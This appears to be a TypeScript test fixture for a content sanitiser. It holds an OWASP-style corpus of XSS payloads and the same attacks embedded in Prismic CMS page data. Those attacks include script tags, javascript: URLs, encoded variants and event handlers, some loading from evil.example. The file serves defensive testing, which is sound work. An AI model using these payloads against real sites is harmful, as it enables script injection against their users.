// The content test kit (tests only): an XSS corpus in the OWASP cheat sheet's style, fed to the
// sanitiser as editor HTML (modules/content/sanitize.test.ts) and rendered through the page components
// (app/components/content/PageContent.test.tsx), and the same attacks as structured Prismic data.

/** Editor or pasted HTML that tries to run script, load from elsewhere or smuggle markup. */
export const XSS_CORPUS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/ok.png" width="10" height="10" onerror="alert(1)" onload=alert(2)>',
  '<IMG SRC="javascript:alert(\'XSS\');" width=1 height=1>',
  '<IMG SRC=JaVaScRiPt:alert(1) width=1 height=1>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41; width=1 height=1>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" width=1 height=1>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>click</text></a></svg>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="jav\tascript:alert(1)">a</a>',
  '<a href="jav&#x09;ascript:alert(1)">a</a>',
  '<a href="jav&#x0A;ascript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="\x01javascript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/\\evil.example">a</a>',
  '<a href="/ok" onclick="alert(1)" style="color:red">a</a>',
  '<p style="background:url(javascript:alert(1))">css</p>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<style>@import "https://evil.example/x.css"; p{background:url(javascript:alert(1))}</style>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">m</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p title="</p><script>alert(1)</script>">t</p>',
  '<form><button formaction="javascript:alert(1)">b</button></form>',
  '<body onload=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<a href="https://ok.example/"<script>alert(1)</script>',
  '<<script>script>alert(1)//<</script>',
  '<img """><script>alert(1)</script>">',
  '<p>unclosed <strong>bold <a href="javascript:alert(1)">link',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--<script>alert(1)</script>-->',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '"><script>alert(1)</script>',
  "'';!--\"<XSS>=&{()}",
];

/** The same attacks as structured document data, as a Prismic repository (or a tampered store) could hold. */
export const XSS_PAGE_DATA: unknown = {
  title: '<script>alert(1)</script>タイトル',
  description: '" onmouseover="alert(1)',
  heroImage: 'javascript:alert(1)',
  body: [
    {
      type: 'paragraph',
      text: 'リンク1 リンク2 リンク3 リンク4',
      spans: [
        { start: 0, end: 4, type: 'hyperlink', data: { link_type: 'Web', url: 'javascript:alert(1)' } },
        { start: 5, end: 9, type: 'hyperlink', data: { link_type: 'Web', url: ' JaVaScRiPt:alert(1)' } },
        {
          start: 10,
          end: 14,
          type: 'hyperlink',
          data: { link_type: 'Media', url: 'data:text/html,<script>alert(1)</script>' },
        },
        { start: 15, end: 19, type: 'hyperlink', data: { url: 'vbscript:msgbox(1)' } },
        { start: 0, end: 4, type: 'label', data: { label: '" onclick="alert(1)' } },
      ],
    },
    { type: 'heading2', text: '<img src=x onerror=alert(1)>', spans: [] },
    { type: 'preformatted', text: '<svg onload=alert(1)>', spans: [{ start: 0, end: 4, type: 'strong' }] },
    { type: 'image', url: 'data:image/svg+xml,<svg onload=alert(1)>', alt: 'x', dimensions: { width: 10, height: 10 } },
    {
      type: 'image',
      url: '/ok.png',
      alt: '" onerror="alert(1)',
      dimensions: { width: 10, height: 10 },
      linkTo: { link_type: 'Web', url: 'javascript:alert(1)' },
    },
    {
      type: 'embed',
      oembed: { embed_url: 'https://evil.example/watch?v=dQw4w9WgXcQ', html: '<script>alert(1)</script>' },
    },
    {
      type: 'embed',
      oembed: {
        embed_url: 'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
        html: '<iframe src="javascript:alert(1)"></iframe><script>alert(1)</script>',
        thumbnail_url: 'https://i.ytimg.com/vi/dQw4w9WgXcQ/hqdefault.jpg',
        title: '<script>alert(1)</script>',
      },
    },
    { type: 'custom', html: '<script>alert(1)</script>' },
  ],
  slices: [
    { slice_type: 'html', primary: { html: '<script>alert(1)</script>' }, items: [] },
    {
      slice_type: 'text',
      primary: {
        text: [{ type: 'paragraph', text: '<style>body{background:url(javascript:alert(1))}</style>', spans: [] }],
      },
      items: [],
    },
    {
      slice_type: 'image',
      primary: { image: { url: 'javascript:alert(1)', alt: '', dimensions: { width: 1, height: 1 } } },
      items: [],
    },
    {
      slice_type: 'image',
      primary: {
        image: {
          url: 'https://images.prismic.io/x.png',
          alt: '<svg onload=alert(1)>',
          dimensions: { width: 100, height: 50 },
        },
        caption: '<iframe src=javascript:alert(1)>',
        link: { link_type: 'Web', url: 'data:text/html,<script>alert(1)</script>' },
      },
      items: [],
    },
    {
      slice_type: 'embed',
      primary: { embed: { embed_url: 'javascript:alert(1)', html: '<script>alert(1)</script>' } },
      items: [],
    },
    {
      slice_type: 'embed',
      primary: {
        embed: {
          embed_url: 'https://x.com/jack/status/20',
          html: '<blockquote><script src="https://platform.twitter.com/widgets.js"></script>',
        },
      },
      items: [],
    },
    {
      slice_type: 'table',
      primary: {
        table: {
          head: {
            rows: [
              {
                cells: [
                  { type: 'header', content: [{ type: 'paragraph', text: '<script>alert(1)</script>', spans: [] }] },
                ],
              },
            ],
          },
          body: {
            rows: [
              {
                cells: [
                  {
                    type: 'data',
                    content: [
                      {
                        type: 'paragraph',
                        text: 'セル',
                        spans: [
                          {
                            start: 0,
                            end: 2,
                            type: 'hyperlink',
                            data: { link_type: 'Web', url: 'javascript:alert(1)' },
                          },
                        ],
                      },
                    ],
                  },
                  { type: 'data', content: [{ type: 'embed', oembed: { embed_url: 'https://youtu.be/dQw4w9WgXcQ' } }] },
                ],
              },
            ],
          },
        },
        caption: '" onfocus="alert(1)',
      },
      items: [],
    },
    {
      slice_type: 'button',
      primary: { label: '<b onmouseover=alert(1)>押す</b>', link: { link_type: 'Web', url: 'javascript:alert(1)' } },
      items: [],
    },
    {
      slice_type: 'button',
      primary: { label: '公式サイト', link: { link_type: 'Web', url: 'https://example.com/' } },
      items: [],
    },
  ],
};
